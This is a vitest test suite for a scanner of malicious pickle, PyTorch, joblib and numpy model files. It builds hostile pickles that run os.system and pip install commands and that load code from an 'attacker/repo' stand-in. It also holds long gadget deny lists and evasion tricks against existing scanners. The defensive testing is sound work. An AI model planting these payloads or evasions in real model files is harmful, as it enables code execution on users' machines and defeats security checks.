/**
 * One test (at least) per MODEL-THREATS.md §4 row that applies to pickle-family files.
 * Test names start with the row id.
 */
import { describe, expect, it } from "vitest";

import { gzipSync, writeTar, writeZip, zlibSync } from "@watchtower/containers/testing";

import { VECTORS } from "./fixtures/compressed-payloads.js";
import { joblibDump, legacyTorch, npyObject, npz, torchStateDictPickle, torchZip } from "./builders/models.js";
import { callPickle, concat, framed, P } from "./builders/pickle.js";
import { blocking, dangerous, scan, severityOf, summary } from "./helpers.js";

const CMD = "touch /tmp/pwned";
const osSystem = (): Uint8Array => callPickle("os", "system", CMD);
/** A protocol-4 STACK_GLOBAL call. */
const stackCall = (module: string, name: string, ...args: string[]): Uint8Array => {
  const p = P.proto(4).sglobal(module, name).mark();
  for (const a of args) p.str(a);
  return p.tuple().reduce().stop().toBytes();
};

async function expectFlagged(bytes: Uint8Array, evidence: string, path = "model.pkl", min: "high" | "critical" = "critical"): Promise<void> {
  const rec = await scan(bytes, { path });
  const hit = rec.reports.find((d) => d.evidence === evidence && d.ruleId === "pickle/dangerous-global");
  expect(hit, `${evidence} in ${JSON.stringify(summary(rec))}`).toBeDefined();
  expect(min === "critical" ? severityOf(hit!) : ["high", "critical"].includes(severityOf(hit!)) ? min : severityOf(hit!)).toBe(min);
}

describe("§4.1 modelscan rows", () => {
  it.each([
    ["pip", "main"],
    ["torch._inductor.codecache", "compile_file"],
    ["pydoc", "pipepager"],
    ["venv", "create"],
    ["timeit", "timeit"],
    ["cProfile", "run"],
    ["profile", "run"],
    ["trace", "Trace.runctx"],
    ["idlelib.pyshell", "ModifiedInterpreter.runcode"],
    ["lib2to3.pgen2.grammar", "Grammar.loads"],
    ["doctest", "debug_script"],
    ["torch.utils.collect_env", "run"],
    ["ssl", "get_server_certificate"],
    ["_io", "FileIO"],
    ["logging", "FileHandler"],
    ["urllib.request", "urlopen"],
    ["uuid", "_get_command_stdout"],
    ["ctypes", "CDLL"],
    ["cloudpickle.cloudpickle", "_make_function"],
    ["types", "CodeType"],
    ["numpy.f2py.crackfortran", "getlincoef"],
    ["importlib", "import_module"],
    ["multiprocessing.util", "spawnv_passfds"],
    ["mlflow.projects", "_run_entry_point"],
    ["pandas", "read_csv"],
  ])("M1: %s.%s is critical through GLOBAL and STACK_GLOBAL", async (module, name) => {
    await expectFlagged(callPickle(module, name, "x"), `${module}.${name}`);
    await expectFlagged(stackCall(module, name, "x"), `${module}.${name}`);
  });

  it("M2: BUILD sets attributes on numpy.prod, then GLOBAL numpy prod.a → global mutation", async () => {
    const p = P.proto(2).global("numpy", "prod").emptyDict().str("a").str("os").setitem().str("b").str("system").setitem().build().pop();
    p.global("numpy", "prod.a").global("numpy", "prod.b").stackGlobal().str(CMD).tuple1().reduce().stop();
    const rec = await scan(p.toBytes());
    expect(summary(rec, "high")).toEqual(
      expect.arrayContaining([expect.stringMatching(/^pickle\/global-mutation critical/), expect.stringMatching(/^pickle\/unresolvable-global critical/)]),
    );
  });

  it("M3: numpy.__builtins__ as a STACK_GLOBAL name plus BUILD on numpy.size", async () => {
    const p = P.proto(4).sglobal("numpy", "__builtins__").pop();
    p.sglobal("numpy", "size").emptyDict().str("__call__").str("eval").setitem().build().stop();
    const rec = await scan(p.toBytes());
    expect(dangerous(rec)).toContain("numpy.__builtins__");
    expect(summary(rec)).toEqual(expect.arrayContaining([expect.stringMatching(/^pickle\/global-mutation critical/)]));
  });

  it("M4: importlib.import_module('builtins') + getattr + str.join building 'os'/'system'", async () => {
    const p = P.proto(4);
    p.sglobal("importlib", "import_module").str("builtins").tuple1().reduce().pop();
    p.sglobal("builtins", "getattr").str("").str("join").tuple2().reduce().memoize();
    p.emptyList().str("o").append().str("s").append().tuple1().reduce();
    p.str("system").stackGlobal().str(CMD).tuple1().reduce().stop();
    const rec = await scan(p.toBytes());
    expect(dangerous(rec)).toEqual(expect.arrayContaining(["importlib.import_module", "builtins.getattr"]));
    expect(summary(rec)).toEqual(expect.arrayContaining([expect.stringMatching(/^pickle\/unresolvable-global critical/)]));
  });

  it("M5: introspection chain that only GLOBALs builtins (print.__class__.__base__.__subclasses__)", async () => {
    await expectFlagged(callPickle("builtins", "print.__class__.__base__.__subclasses__"), "builtins.print.__class__.__base__.__subclasses__");
  });

  it.each([
    ["SHORT_BINBYTES", (p: P) => p.bytes("os").bytes("system")],
    ["BININT", (p: P) => p.int(1).int(2)],
    ["BYTEARRAY8", (p: P) => p.bytearray8("os").bytearray8("system")],
  ])("M6: non-string STACK_GLOBAL operands (%s) are critical and do not stop the scan", async (_name, operands) => {
    const p = P.proto(4).sglobal("subprocess", "Popen").str("id").tuple1().reduce().pop();
    operands(p).stackGlobal().str("x").tuple1().reduce().stop();
    const rec = await scan(p.toBytes());
    expect(dangerous(rec)).toContain("subprocess.Popen");
    expect(summary(rec)).toEqual(expect.arrayContaining([expect.stringMatching(/^pickle\/unresolvable-global critical/)]));
  });

  it("M7: zlib.decompress payloads and transformers getattribute_from_module(...)('attacker/repo')", async () => {
    const z = await scan(stackCall("zlib", "decompress", "eJw="));
    expect(summary(z, "medium")).toEqual(["pickle/unknown-global medium zlib.decompress"]);
    const p = P.proto(4).sglobal("transformers.models.auto.auto_factory", "getattribute_from_module");
    p.sglobal("transformers", "AutoTokenizer").str("from_pretrained").tuple2().reduce().str("attacker/repo").tuple1().reduce().stop();
    const rec = await scan(p.toBytes());
    expect(blocking(rec)).toBe(true);
    expect(summary(rec, "high")).toEqual(
      expect.arrayContaining([
        "pickle/dangerous-global high transformers.models.auto.auto_factory.getattribute_from_module",
        expect.stringMatching(/^pickle\/indirect-call high/),
      ]),
    );
  });

  it("M8/A4: a corrupt member before archive/data.pkl does not abort the walk", async () => {
    const zip = writeZip([
      { name: "archive/broken.bin", data: "not deflate", method: 8 },
      { name: "archive/data.pkl", data: osSystem() },
    ]);
    zip.fill(0xff, 30 + "archive/broken.bin".length, 30 + "archive/broken.bin".length + 8);
    const rec = await scan(zip, { path: "model.pt" });
    expect(dangerous(rec)).toContain("os.system");
    expect(rec.incompletes.map((i) => i.details).join()).toMatch(/archive\/broken\.bin/);
  });

  it.each([
    ["bad CRC", { crc32: 0x12345678 }],
    ["flag 0x1", { flags: 0x1 }],
    ["flag 0x20", { flags: 0x20 }],
    ["flag 0x40", { flags: 0x40 }],
    ["central-directory name mismatch", { centralName: "archive/data.txt" }],
    ["data descriptor", { dataDescriptor: true, method: 8 }],
  ])("M9: zip quirk PyTorch accepts (%s) still scanned", async (_name, quirk) => {
    const rec = await scan(torchZip({ dataPkl: osSystem(), dataPklEntry: quirk }), { path: "model.pt" });
    expect(dangerous(rec)).toEqual(["os.system"]);
    expect(rec.reports.find((d) => d.evidence === "os.system")?.at).toMatchObject({ kind: "binary", member: "archive/data.pkl" });
  });

  it("legacy PyTorch tar (members pickle/storages/tensors), tarred and gzipped checkpoints are read", async () => {
    const legacy = writeTar([
      { name: "sys_info", data: new Uint8Array([0x80, 0x02, 0x7d, 0x2e]) },
      { name: "pickle", data: osSystem() },
      { name: "storages", data: new Uint8Array([0x80, 0x02, 0x5d, 0x2e]) },
      { name: "tensors", data: new Uint8Array([0x80, 0x02, 0x5d, 0x2e]) },
    ]);
    expect(dangerous(await scan(legacy, { path: "old.pt" }))).toEqual(["os.system"]);
    const bundle = writeTar([{ name: "ignored", data: osSystem(), pax: "checkpoints/epoch-3/model.pkl" }]);
    const rec = await scan(gzipSync(bundle), { path: "checkpoints.tar.gz" });
    expect(dangerous(rec)).toEqual(["os.system"]);
    expect(rec.reports.find((d) => d.evidence === "os.system")?.at).toMatchObject({ member: expect.stringContaining("checkpoints/epoch-3/model.pkl") });
    // A tar cut inside a member is incomplete, not a pass.
    expect((await scan(legacy.subarray(0, 900), { path: "old.pt" })).incompletes.map((i) => i.details).join()).toMatch(/truncated/);
  });

  it("a truly encrypted member (password-protected zip) is incomplete, not a silent pass", async () => {
    // ZipCrypto output looks like noise: 12 header bytes then the encrypted stream.
    const noise = Uint8Array.from({ length: 200 }, (_, i) => (i * 151 + 17) % 251);
    const rec = await scan(torchZip({ dataPkl: noise, dataPklEntry: { flags: 0x1 } }), { path: "model.pt" });
    expect(rec.incompletes.map((i) => i.details).join("\n")).toMatch(/archive\/data\.pkl is encrypted/);
    // An encrypted member no loader would deserialise (picklescan's benign_password_protected.zip
    // holds a test.txt) is noted, not blocking.
    const other = await scan(writeZip([{ name: "test.txt", data: noise, flags: 0x1 }]), { path: "bundle.zip" });
    expect(other.incompletes).toEqual([]);
    expect(other.notes.join("\n")).toMatch(/test\.txt is encrypted/);
  });

  it("M10: legacy torch payload in pickle #4 (and #5) is found", async () => {
    const main = P.proto(2).global("posix", "system").str(CMD).tuple1().reduce().pop().then(new P().raw(torchStateDictPickle(true).subarray(2))).toBytes();
    const rec = await scan(legacyTorch({ main }), { path: "model.pt" });
    expect(dangerous(rec)).toEqual(["posix.system"]);
    expect(rec.reports[0]?.at).toMatchObject({ member: "pickle #4" });
    expect(rec.incompletes).toEqual([]);
  });

  it("M11/P12: legacy torch whose magic number comes from eval, or is missing, is still scanned", async () => {
    const evalMagic = callPickle("builtins", "eval", "0x1950a86a20f9469cfc6c");
    await expectFlagged(legacyTorch({ magic: evalMagic }), "builtins.eval", "model.pt");
    const main = callPickle("os", "system", CMD);
    await expectFlagged(legacyTorch({ magic: new Uint8Array(0), main }), "os.system", "model.pt");
  });

  it("M12: broken pickle (nullifAI): payload before a parse error → dangerous finding plus incomplete", async () => {
    const broken = concat(P.proto(2).global("os", "system").str(CMD).tuple1().reduce().toBytes(), new Uint8Array([0xff, 0x00, 0x01]));
    const rec = await scan(broken);
    expect(dangerous(rec)).toEqual(["os.system"]);
    expect(rec.incompletes).toHaveLength(1);
    expect(rec.incompletes[0]?.details).toMatch(/M12/);
  });

  it("M13/P11: STACK_GLOBAL at op index 1 without PROTO, operands from STRING/BINSTRING", async () => {
    const p = new P().string("os").shortBinstring("system").stackGlobal().string(CMD).tuple1().reduce().stop();
    await expectFlagged(p.toBytes(), "os.system");
    const q = new P().binstring("subprocess").binstring("check_output").stackGlobal().mark().string("id").list().tuple1().reduce().stop();
    await expectFlagged(q.toBytes(), "subprocess.check_output");
  });

  it.each([
    ["http.client", "HTTPSConnection"],
    ["operator", "methodcaller"],
    ["operator", "itemgetter"],
    ["_operator", "attrgetter"],
  ])("M16: %s.%s is critical", async (module, name) => {
    await expectFlagged(callPickle(module, name, "x"), `${module}.${name}`);
  });
});

describe("§4.2 picklescan rows", () => {
  it("P1: pip.main(['install', …])", async () => {
    const p = P.proto(2).global("pip", "main").emptyList().mark().str("install").str("evil-package").appends().tuple1().reduce().stop();
    await expectFlagged(p.toBytes(), "pip.main");
  });

  it("P2: pickle member with a .txt extension is sniffed and scanned", async () => {
    const rec = await scan(torchZip({ dataPkl: torchStateDictPickle(), extra: [{ name: "archive/data.txt", data: osSystem() }] }), { path: "m.pt" });
    expect(dangerous(rec)).toEqual(["os.system"]);
    expect(rec.reports[0]?.at).toMatchObject({ member: "archive/data.txt" });
  });

  it("P3: local/central name mismatch (both names tolerated)", async () => {
    const rec = await scan(torchZip({ dataPkl: osSystem(), dataPklEntry: { centralName: "archive/other" } }), { path: "m.pt" });
    expect(dangerous(rec)).toEqual(["os.system"]);
  });

  it("P4/P6: encrypted flag and CRC mismatch together", async () => {
    const rec = await scan(torchZip({ dataPkl: osSystem(), dataPklEntry: { flags: 0x41, crc32: 1 } }), { path: "m.pt" });
    expect(dangerous(rec)).toEqual(["os.system"]);
  });

  it("P5: a 7z archive is reported incomplete, never passed", async () => {
    const sevenZip = concat(new Uint8Array([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), new Uint8Array(24));
    const rec = await scan(sevenZip, { path: "model.7z", format: "sevenzip" });
    expect(rec.incompletes[0]?.details).toMatch(/7z/);
  });

  it("P7: .bin with a bad magic number is scanned as a pickle", async () => {
    const p = P.proto(2).int(12345).stop().toBytes();
    await expectFlagged(concat(p, osSystem()), "os.system", "pytorch_model.bin");
  });

  it("P8: sub-module of a denied module (asyncio.unix_events._UnixSubprocessTransport._start)", async () => {
    await expectFlagged(stackCall("asyncio.unix_events", "_UnixSubprocessTransport._start", "x"), "asyncio.unix_events._UnixSubprocessTransport._start");
  });

  it("P9: memo confusion mixing PUT and MEMOIZE resolves to the runtime memo (os.system), not torch.LongStorage", async () => {
    const p = P.proto(4).str("torch").binput(0).str("LongStorage").binput(1).pop().pop();
    // memo has 2 entries, so MEMOIZE stores at 2 and 3 — not at the "next PUT index" a look-behind scanner assumes.
    p.str("os").memoize().str("system").memoize().pop().pop();
    p.binget(2).binget(3).stackGlobal().str(CMD).tuple1().reduce().stop();
    const rec = await scan(p.toBytes());
    expect(dangerous(rec)).toEqual(["os.system"]);
    expect(summary(rec).join()).not.toMatch(/LongStorage/);
  });

  it("P10: missing memo key and memo type confusion are critical, not a crash", async () => {
    const missing = P.proto(4).binget(7).str("system").stackGlobal().str(CMD).tuple1().reduce().stop();
    const rec = await scan(missing.toBytes());
    expect(summary(rec, "high")).toEqual(expect.arrayContaining([expect.stringMatching(/^pickle\/unresolvable-global critical/)]));
    const confused = P.proto(4).int(5).memoize().pop().binget(0).str("system").stackGlobal().stop();
    expect(summary(await scan(confused.toBytes()), "critical")).toEqual([expect.stringMatching(/^pickle\/unresolvable-global/)]);
  });

  it("P13: pkgutil.resolve_name('os:system') trampoline", async () => {
    await expectFlagged(callPickle("pkgutil", "resolve_name", "os:system"), "pkgutil.resolve_name");
  });

  it.each([
    ["operator", "attrgetter"],
    ["pydoc", "locate"],
    ["_operator", "methodcaller"],
    ["ctypes", "CDLL"],
    ["distutils.file_util", "write_file"],
    ["pty", "spawn"],
    ["numpy.f2py.crackfortran", "getlincoef"],
    ["uuid", "_get_command_stdout"],
    ["_osx_support", "_read_output"],
    ["_aix_support", "_read_cmd_output"],
    ["imaplib", "IMAP4_stream"],
    ["_pyrepl.pager", "pipe_pager"],
    ["test.support.script_helper", "assert_python_ok"],
    ["code", "InteractiveInterpreter.runcode"],
    ["ensurepip", "_run_pip"],
    ["torch.utils.bottleneck.__main__", "run_cprofile"],
    ["torch.utils.data.datapipes.utils.decoder", "basichandlers"],
    ["torch._dynamo.guards", "GuardBuilder.get"],
    ["torch.jit.unsupported_tensor_ops", "execWrapper"],
    ["torch.serialization", "load"],
    ["cloudpickle.cloudpickle", "subimport"],
    ["logging", "FileHandler"],
    ["_io", "FileIO"],
    ["urllib.request", "urlopen"],
  ])("P14: gadget %s.%s", async (module, name) => {
    await expectFlagged(callPickle(module, name, "x"), `${module}.${name}`);
  });

  it("P15: importlib.import_module, builtins.__import__, pathlib+os.system, numpy.__builtins__ are critical", async () => {
    await expectFlagged(callPickle("importlib", "import_module", "os"), "importlib.import_module");
    await expectFlagged(callPickle("builtins", "__import__", "os"), "builtins.__import__");
    await expectFlagged(stackCall("pathlib", "os.system", CMD), "pathlib.os.system");
    await expectFlagged(P.proto(4).sglobal("numpy", "__builtins__").stop().toBytes(), "numpy.__builtins__");
  });

  it("P15: torch.storage._load_from_bytes scans the embedded archive", async () => {
    const nested = torchZip({ dataPkl: osSystem() });
    const p = P.proto(2).global("torch.storage", "_load_from_bytes").binbytes(nested).tuple1().reduce().stop();
    const rec = await scan(p.toBytes());
    expect(dangerous(rec)).toEqual(["os.system"]);
    expect(rec.reports[0]?.at).toMatchObject({ member: expect.stringMatching(/_load_from_bytes/) });
    // The same call with benign bytes is clean; with a computed argument it is critical.
    expect(summary(await scan(P.proto(2).global("torch.storage", "_load_from_bytes").binbytes(torchZip()).tuple1().reduce().stop().toBytes()), "medium")).toEqual([]);
    const computed = P.proto(2).global("torch.storage", "_load_from_bytes").global("base64", "b64decode").str("UEs=").tuple1().reduce().tuple1().reduce().stop();
    expect(dangerous(await scan(computed.toBytes()))).toContain("torch.storage._load_from_bytes");
  });

  it("P16: protocol-0 pickle member without extension inside a zip", async () => {
    const proto0 = new P().global("os", "system").mark().string(CMD).tuple().reduce().stop().toBytes();
    const rec = await scan(writeZip([{ name: "archive/data.pkl", data: torchStateDictPickle() }, { name: "archive/extra", data: proto0 }]), { path: "m.pt" });
    expect(dangerous(rec)).toEqual(["os.system"]);
    const proto1 = new P().global("os", "system").shortBinstring(CMD).tuple1().reduce().stop().toBytes();
    expect(dangerous(await scan(writeZip([{ name: "payload", data: proto1 }]), { path: "x.zip" }))).toEqual(["os.system"]);
  });

  it("P17: object .npy, .dill and renamed files are scanned by content", async () => {
    expect(dangerous(await scan(npyObject(osSystem()), { path: "arr.npy" }))).toEqual(["os.system"]);
    expect(dangerous(await scan(npz({ "a.npy": npyObject(osSystem()) }), { path: "arr.npz" }))).toEqual(["os.system"]);
    expect(dangerous(await scan(stackCall("dill._dill", "_create_code", "x"), { path: "f.dill" }))).toEqual(["dill._dill._create_code"]);
    expect(dangerous(await scan(osSystem(), { path: "weights.dat" }))).toEqual(["os.system"]);
  });

  it("P18: an opcode that runs past its FRAME is a parser differential (high), and the hidden call is found", async () => {
    const hidden = new P().global("os", "system").string(CMD).tuple1().reduce().stop().toBytes();
    // FRAME claims 3 bytes, but the BINBYTES header + data that follow run far beyond it.
    const p = P.proto(4).frame(3).binbytes(hidden).stop().toBytes();
    const rec = await scan(p);
    expect(summary(rec, "high")).toEqual(expect.arrayContaining([expect.stringMatching(/^pickle\/malformed high/), "pickle/dangerous-global critical os.system"]));
    // A well-framed pickle is clean.
    expect(summary(await scan(framed(new P().str("x")))).length).toBe(0);
  });
});

describe("§4.3 fickling rows", () => {
  it.each([
    ["pty", "spawn"],
    ["marshal", "loads"],
    ["types", "FunctionType"],
    ["runpy", "_run_code"],
    ["ctypes", "cdll"],
    ["importlib", "reload"],
    ["code", "interact"],
    ["multiprocessing", "Process"],
    ["cProfile", "runctx"],
    ["pydoc", "locate"],
    ["uuid", "_popen"],
    ["_aix_support", "aix_platform"],
    ["_osx_support", "_find_build_tool"],
    ["_interpreters", "run_string"],
    ["_xxsubinterpreters", "run_string"],
  ])("F1: %s.%s", async (module, name) => {
    await expectFlagged(callPickle(module, name, "x"), `${module}.${name}`);
  });

  it("F2: builtins imports (exec, eval under __builtin__, __import__)", async () => {
    await expectFlagged(callPickle("builtins", "exec", "import os"), "builtins.exec");
    await expectFlagged(callPickle("__builtin__", "eval", "1"), "__builtin__.eval");
    await expectFlagged(stackCall("builtins", "__import__", "os"), "builtins.__import__");
  });

  it("F3: a call discarded with OBJ + POP is still reported", async () => {
    const p = new P().mark().global("os", "system").string(CMD).obj().pop().emptyDict().stop();
    await expectFlagged(p.toBytes(), "os.system");
  });

  it("F4: dotted name through a benign stdlib module", async () => {
    await expectFlagged(stackCall("pathlib", "os.system", CMD), "pathlib.os.system");
    await expectFlagged(callPickle("collections", "os.system", CMD), "collections.os.system");
  });

  it("F5: allowlisted torch reconstruction is not shadowed by torch's dangerous parts, and vice versa", async () => {
    expect(summary(await scan(torchZip()), "low")).toEqual([]);
    await expectFlagged(callPickle("torch.hub", "load", "attacker/repo", "model"), "torch.hub.load");
    await expectFlagged(callPickle("torch", "load", "x.pt"), "torch.load");
  });

  it("F6: stacked pickle hidden behind a junk byte", async () => {
    const rec = await scan(concat(P.proto(2).emptyDict().stop().toBytes(), new Uint8Array([0x00]), osSystem()));
    expect(dangerous(rec)).toEqual(["os.system"]);
    expect(summary(rec)).toEqual(expect.arrayContaining([expect.stringMatching(/^pickle\/malformed high pickle at byte/)]));
  });

  it("F6: a second stacked pickle right after STOP", async () => {
    const rec = await scan(concat(P.proto(2).emptyDict().stop().toBytes(), osSystem()));
    expect(dangerous(rec)).toEqual(["os.system"]);
    expect(rec.reports[0]?.at).toMatchObject({ member: "pickle #2" });
  });

  it("F7: zip, PyTorch, .npz and encrypted-flag zips are all opened", async () => {
    expect(dangerous(await scan(npz({ "w.npy": npyObject(osSystem()) }, 8), { path: "w.npz" }))).toEqual(["os.system"]);
    expect(dangerous(await scan(torchZip({ dataPkl: osSystem(), dataPklEntry: { flags: 1 } }), { path: "w.pt" }))).toEqual(["os.system"]);
  });
});

describe("§4.4 modelaudit rows", () => {
  it.each([
    ["ctypes", "CDLL"],
    ["ctypes.util", "find_library"],
    ["cProfile", "run"],
    ["pdb", "run"],
    ["timeit", "timeit"],
    ["profile", "run"],
    ["_thread", "start_new_thread"],
    ["zipimport", "zipimporter"],
    ["logging.config", "listen"],
  ])("A1: %s.%s (whole-module denials never miss a member)", async (module, name) => {
    await expectFlagged(callPickle(module, name, "x"), `${module}.${name}`);
  });

  it("A2: no prefix collisions (mathutils is not math, sklearn_evil is not sklearn, osx is not os)", async () => {
    const rec = await scan(concat(callPickle("sklearn_evil", "LinearModel", "x"), callPickle("osx", "helper", "x"), callPickle("ossaudiodev", "open_mixer", "x")));
    expect(summary(rec, "medium")).toEqual([
      "pickle/unknown-global medium ossaudiodev.open_mixer",
      "pickle/unknown-global medium osx.helper",
      "pickle/unknown-global medium sklearn_evil.LinearModel",
    ]);
  });

  it("A3: a memo alias of getattr is still getattr", async () => {
    const p = P.proto(2).global("builtins", "getattr").binput(0).pop();
    p.binget(0).global("os", "path").str("join").tuple2().reduce().stop();
    const rec = await scan(p.toBytes());
    expect(dangerous(rec)).toEqual(expect.arrayContaining(["builtins.getattr", "os.path"]));
  });

  it("A4: an oversized (bomb) member is incomplete, never clean", async () => {
    const bomb = writeZip([{ name: "archive/data.pkl", data: concat(P.proto(2).binbytes(new Uint8Array(4 * 1024 * 1024)).toBytes(), P.proto(2).stop().toBytes()), method: 8 }]);
    const rec = await scan(bomb, { path: "model.pt" });
    expect(rec.incompletes.map((i) => i.details).join()).toMatch(/ratio|limit/);
    const unsupported = writeZip([{ name: "archive/data.pkl", data: osSystem(), method: 14 }]);
    expect((await scan(unsupported, { path: "model.pt" })).incompletes.length).toBe(1);
  });

  it("A5: call-graph gadgets (defaultdict factory, itertools, weakref callbacks) are at least high", async () => {
    const dd = P.proto(2).global("collections", "defaultdict").global("os", "system").tuple1().reduce().stop().toBytes();
    await expectFlagged(dd, "os.system");
    await expectFlagged(callPickle("itertools", "starmap", "x"), "itertools.starmap", "m.pkl", "high");
    await expectFlagged(callPickle("weakref", "finalize", "x"), "weakref.finalize", "m.pkl", "high");
  });
});

describe("joblib variants (CVE-2024-34997)", () => {
  it("payload in the object array pickle inside a joblib stream", async () => {
    expect(dangerous(await scan(joblibDump({ objectPickle: osSystem() }), { path: "m.joblib" }))).toEqual(["os.system"]);
  });

  it("payload after the raw array data is found (not mistaken for array bytes)", async () => {
    const tail = joblibDump();
    expect(dangerous(await scan(concat(tail, osSystem()), { path: "m.joblib" }))).toEqual(["os.system"]);
  });

  it.each(["zlib", "gzip", "bz2", "xz", "lzma"])("compressed joblib (%s)", async (kind) => {
    const payload = VECTORS.joblibPayload;
    const bytes =
      kind === "zlib" ? zlibSync(payload) : kind === "gzip" ? gzipSync(payload) : VECTORS[`joblibPayload.${kind}` as keyof typeof VECTORS];
    expect(dangerous(await scan(bytes, { path: "m.joblib" }))).toEqual(["os.system"]);
  });

  it("a truncated compressed stream is incomplete but the partial pickle is still scanned", async () => {
    const full = gzipSync(concat(osSystem(), new Uint8Array(50_000).map((_, i) => (i * 7919) % 251)));
    const rec = await scan(full.subarray(0, full.length - 100), { path: "m.joblib.gz" });
    expect(dangerous(rec)).toEqual(["os.system"]);
    expect(rec.incompletes.length).toBeGreaterThan(0);
  });
});

describe("limits and fail-closed", () => {
  it("billion laughs / memory bombs stop at the stack and item limits → incomplete", async () => {
    const p = P.proto(4).emptyList();
    for (let i = 0; i < 200; i++) p.dup().dup().tuple2();
    p.stop();
    const rec = await scan(p.toBytes(), { limits: { maxPickleStack: 50 } });
    expect(rec.incompletes[0]?.details).toMatch(/limit reached/);
  });

  it("opcode count limit → incomplete", async () => {
    const p = P.proto(4);
    for (let i = 0; i < 1000; i++) p.none().pop();
    const rec = await scan(p.stop().toBytes(), { limits: { maxPickleOps: 100 } });
    expect(rec.incompletes[0]?.details).toMatch(/100 opcodes/);
  });

  it("a truncated pickle is incomplete", async () => {
    const rec = await scan(P.proto(2).emptyDict().str("key").toBytes());
    expect(rec.incompletes).toHaveLength(1);
  });

  it("a pickle-named file with no pickle in it is incomplete", async () => {
    const rec = await scan(new Uint8Array(64).fill(0x41), { path: "model.pkl", format: "unknown" });
    expect(rec.incompletes).toHaveLength(1);
    expect((await scan(new Uint8Array(64).fill(0x41), { path: "image.png", format: "unknown" })).incompletes).toEqual([]);
  });

  it("unknown-format .bin files (fastText, word2vec) are searched only at the head and never incomplete", async () => {
    const noise = new Uint8Array(3 * 1024 * 1024).map((_, i) => (i * 2654435761) >>> 24);
    const rec = await scan(noise, { path: "wiki.en.bin", format: "unknown" });
    expect(rec.incompletes).toEqual([]);
    expect(rec.reports).toEqual([]);
    const hidden = concat(new Uint8Array([1, 2, 3]), osSystem(), noise.subarray(0, 1000));
    expect(dangerous(await scan(hidden, { path: "pytorch_model.bin", format: "unknown" }))).toEqual(["os.system"]);
  });

  it("zip nesting beyond the limit is incomplete", async () => {
    let z = torchZip();
    for (let i = 0; i < 5; i++) z = writeZip([{ name: `level${i}.zip`, data: z }]);
    expect((await scan(z, { path: "n.zip", limits: { maxNestingDepth: 3 } })).incompletes.length).toBeGreaterThan(0);
    expect(summary(await scan(z, { path: "n.zip" }), "medium")).toEqual([]);
  });
});

describe("policy", () => {
  it("unknown globals are medium, high with strictModels", async () => {
    const bytes = stackCall("mypackage.models", "Net");
    expect(summary(await scan(bytes), "info")).toEqual(["pickle/unknown-global medium mypackage.models.Net"]);
    expect(summary(await scan(bytes, { strict: true }), "info")).toEqual(["pickle/unknown-global high mypackage.models.Net"]);
  });

  it("findings carry module.name, opcode offset, member, identity and an explanation", async () => {
    const rec = await scan(torchZip({ dataPkl: osSystem() }), { path: "model.pt" });
    const d = rec.reports[0]!;
    expect(d).toMatchObject({
      ruleId: "pickle/dangerous-global",
      evidence: "os.system",
      identity: "os.system",
      at: { kind: "binary", byteOffset: 2, member: "archive/data.pkl" },
      data: { module: "os", name: "system", opcode: "GLOBAL", called: true },
    });
    expect(d.message).toContain('calls os.system("touch /tmp/pwned")');
  });

  it("duplicates merge into one report with an occurrence count", async () => {
    const p = P.proto(2);
    for (let i = 0; i < 3; i++) p.global("os", "system").str(CMD).tuple1().reduce().pop();
    const rec = await scan(p.none().stop().toBytes());
    const hits = rec.reports.filter((d) => d.evidence === "os.system");
    expect(hits).toHaveLength(1);
    expect(hits[0]?.data).toMatchObject({ occurrences: 3 });
    // Stacked pickles are separate locations (members "pickle #2", "pickle #3").
    const stacked = await scan(concat(osSystem(), osSystem()));
    expect(stacked.reports.map((d) => (d.at.kind === "binary" ? d.at.member : "")).sort()).toEqual([undefined, "pickle #2"].sort());
  });

  it("numpy ufunc trampoline arguments are checked as a global", async () => {
    const p = P.proto(2).global("numpy.core", "_ufunc_reconstruct").str("os").str("system").tuple2().reduce().stop();
    await expectFlagged(p.toBytes(), "os.system");
    const ok = P.proto(2).global("numpy.core", "_ufunc_reconstruct").str("numpy.core._multiarray_umath").str("log1p").tuple2().reduce().stop();
    expect(summary(await scan(ok.toBytes()), "medium")).toEqual([]);
  });

  it("type() with a name builds a class: not the NoneType idiom, so it is reported", async () => {
    const p = P.proto(2).global("builtins", "type").str("X").global("builtins", "object").tuple1().emptyDict().tuple3().reduce().stop();
    expect(summary(await scan(p.toBytes()), "medium")).toEqual(["pickle/unknown-global medium builtins.type"]);
  });

  it("scanner-deactivation imports are critical", async () => {
    await expectFlagged(callPickle("picklescan.scanner", "scan_bytes", "x"), "picklescan.scanner.scan_bytes");
  });

  it("EXT opcodes are unresolvable", async () => {
    const rec = await scan(P.proto(2).ext1(1).emptyTuple().reduce().stop().toBytes());
    expect(summary(rec, "high")).toEqual(expect.arrayContaining([expect.stringMatching(/^pickle\/unresolvable-global/)]));
  });

  it("protocol 0 INST and protocol 1 OBJ calls", async () => {
    await expectFlagged(new P().mark().string(CMD).inst("subprocess", "call").stop().toBytes(), "subprocess.call");
    await expectFlagged(new P().mark().global("os", "popen").string(CMD).obj().stop().toBytes(), "os.popen");
  });
});
